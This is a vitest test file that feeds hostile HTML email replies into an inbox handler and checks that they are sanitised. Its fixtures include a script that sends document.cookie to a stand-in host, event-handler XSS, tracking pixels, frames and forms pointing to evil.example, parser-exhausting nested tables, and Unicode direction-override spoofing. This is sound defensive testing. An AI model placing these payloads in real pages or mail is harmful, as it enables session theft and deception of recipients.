import { expect, test } from "vitest";
import { findThread, listConversation, listInbox } from "@/lib/db/queries/inbox";
import { announceReply } from "@/lib/engines/inbound/announce-reply";
import { clientPerTest, fileWorld } from "@/tests/support/file-world";
import { inboundLab, MONDAY, mailboxOf, THURSDAY, type WrittenTo, writeTo } from "@/tests/support/inbound-mail";

const world = fileWorld();
const client = clientPerTest(world);
const { hear, messagesOf, touch, threadsOf, noticesOf, dispatch } = inboundLab(
  () => world,
  () => client,
);

/** Characters that turn text around, hide it, or smuggle letters nobody sees. */
const UNSEEN = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E007F}]/u;
const PIXEL = "https://track.example/open?id=1";
const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";

function mailOf(to: WrittenTo, html: string, { subject = "Re: local search", fromName = "Lee Marsden" } = {}): string {
  const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
  return [
    `From: ${encoded(fromName)} <${to.email}>`,
    `To: ${mailboxOf(client)}`,
    `Subject: ${encoded(subject)}`,
    `In-Reply-To: ${to.outgoing.messageId}`,
    `Message-ID: <hostile.${to.leadId}@firm.example>`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    ...(Buffer.from(html)
      .toString("base64")
      .match(/.{1,76}/g) ?? []),
  ].join("\r\n");
}

/** All that the inbox's pages read, as one text. */
async function asRead(): Promise<string> {
  const scope = { clientId: client.clientId };
  const [thread] = await threadsOf();
  const threadId = thread?.id ?? "";
  return JSON.stringify([
    await listInbox(world.system, { ...scope, view: "all", before: null }),
    await findThread(world.system, { ...scope, threadId }),
    await listConversation(world.system, { ...scope, threadId, leadId: thread?.leadId ?? null }),
    await noticesOf(),
  ]);
}

test.each([
  ["a script", `<p>Tell me more</p>${SCRIPT}<img src=x onerror="alert(1)"><svg onload="alert(2)"></svg>`],
  ["a tracking pixel", `<p>Tell me more</p><img src="${PIXEL}" width="1" height="1"><div style="background:url(${PIXEL})"></div>`],
  [
    "a frame, a form and a base",
    `<base href="https://evil.example/"><p>Tell me more</p><iframe src="//evil.example"></iframe><form action="//evil.example"><input value="x"></form>`,
  ],
  ["tables in tables in tables", `${"<table><tr><td>".repeat(3000)}<p>Tell me more</p>${"</td></tr></table>".repeat(3000)}`],
  ["a million cells", `<table>${"<tr><td></td></tr>".repeat(60_000)}</table><p>Tell me more</p>`],
  ["text turned around and text nobody sees", "<p>Tell\u202E me\u202C more\u{E0041}\u{E0042}\u200B\u2066</p>"],
])("a reply with %s is kept, read as text alone, and nothing more is sent by itself", async (_what, html) => {
  const to = await writeTo(world, client);
  const result = await hear(mailOf(to, html));
  expect(result).toMatchObject({ outcome: "stored" });
  const [message] = await messagesOf();
  expect(message?.bodyText).not.toMatch(/[<>]|evil\.example|track\.example/);
  expect(message?.bodyText).not.toMatch(UNSEEN);
  // What nobody can read a word of waits for a person; everything else stops the sequence.
  expect(["cancelled", "planned"]).toContain((await touch(to.second)).state);
  expect((await dispatch(to.second, MONDAY)).outcome).toMatch(/not_pending|hold/);
  const read = await asRead();
  expect(read).not.toMatch(/<script|<img|<iframe|evil\.example|track\.example/);
});

test("a subject and a name that turn text around do so nowhere", async () => {
  const to = await writeTo(world, client);
  const subject = "Re: invoice\u202Efdp.exe\u2066";
  await hear(mailOf(to, "<p>Tell me more</p>", { subject, fromName: `Lee\u202E${SCRIPT}` }));
  const [message] = await messagesOf();
  await announceReply(world.systemCtx(client.clientId, THURSDAY), { messageId: message?.id ?? "" });
  expect(message?.subject).toBe("Re: invoicefdp.exe");
  expect(await asRead()).not.toMatch(UNSEEN);
});
